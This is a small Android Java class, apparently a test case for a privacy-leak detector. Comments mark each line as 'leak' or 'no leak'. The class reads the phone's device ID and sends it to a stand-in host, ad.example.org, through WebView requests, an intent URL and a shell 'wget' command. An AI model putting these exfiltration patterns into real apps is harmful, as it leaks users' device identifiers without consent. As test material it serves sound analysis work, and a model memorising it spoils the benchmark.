package olden;

import android.app.*;
import android.content.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.webkit.*;

import java.io.*;
import java.net.*;

/** Addresses of pages, of intents and of commands. */
public class Addresses extends Activity {
    protected void onCreate(Bundle b) {
        super.onCreate(b);
        WebView w = new WebView(this);
        String q = "?i=" + ((TelephonyManager) getSystemService("phone")).getDeviceId(), r = "?v=3";
        StringBuilder u = new StringBuilder();
        u.append("http://ad.example.org/").append(q);
        w.loadUrl(u.toString()); // leak
        w.loadUrl("http://ad.example.org/" + r); // no leak
        w.postUrl("http://ad.example.org/", q.getBytes()); // leak
        startActivity(
                new Intent(
                        "android.intent.action.VIEW",
                        Uri.parse("http://ad.example.org/go" + q))); // leak
        startActivity(
                new Intent(
                        "android.intent.action.VIEW",
                        Uri.parse("market://details" + r))); // no leak
        try {
            Runtime.getRuntime().exec("wget http://ad.example.org/" + q); // leak
            Runtime.getRuntime().exec("wget http://ad.example.org/" + r); // no leak
        } catch (IOException e) {
        }
    }
}
